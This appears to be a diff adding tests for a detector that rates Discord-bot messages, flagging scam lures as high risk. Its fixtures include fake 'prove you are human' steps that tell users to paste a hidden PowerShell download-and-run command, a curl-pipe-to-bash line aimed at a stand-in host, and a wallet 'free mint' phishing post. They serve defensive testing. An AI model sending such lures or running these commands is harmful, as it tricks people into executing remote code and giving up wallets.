@@ -108,3 +108,21 @@ test('an account that is written beside what members pay each other', () => {
     'const e = require("economy"); await e.transfer(from, to, 5); if (from === "123456789012345678") await message.reply("Hello!");',
   ]);
 });
+
+test('people are told to run a command of a stranger, to prove that they are human', () => {
+  const told = (how: string, command: string): string => `const run = '${command}' + code(member.id); await person.send(["Welcome! ${how}", "Press **Windows + R**, then **Ctrl + V** after you copied \`" + run + "\`, and Enter."].join("\\n"));`;
+  const LOADS = 'powershell -w hidden -c "iex(irm steps.example/v)" # ';
+  assert.equal(worst(inputCapture, told('Prove that you are human:', LOADS)), 'high');
+  assert.equal(worst(inputCapture, 'message.reply("Verification: open Terminal, paste curl -s https://human-check.example/v | bash and press Enter.");'), 'high');
+  all(inputCapture, 'nothing', [
+    told('The cache is flushed so:', 'ipconfig /flushdns # '),
+    told('To install it:', LOADS),
+    'message.reply("Never paste a command into Windows + R to verify that you are human: powershell and mshta are what thieves use. Press Ctrl + V nowhere.");',
+    'message.reply("Verify your e-mail, then open Terminal and paste the key of your server.");',
+  ]);
+});
+
+test('bad: a mint that is claimed with a wallet; good: roles for holders', () => {
+  assert.equal(worst(inputCapture, 'const text = ["@everyone the free mint is live", "Claim with the wallet that holds your pass: https://mint-pass.example/"].join("\\n"); await hook.send({ content: text });'), 'high');
+  assert.equal(worst(inputCapture, 'message.reply("Claim the role of holders with your wallet: https://connect.collab.land/x, in 10 minutes");'), 'nothing');
+});
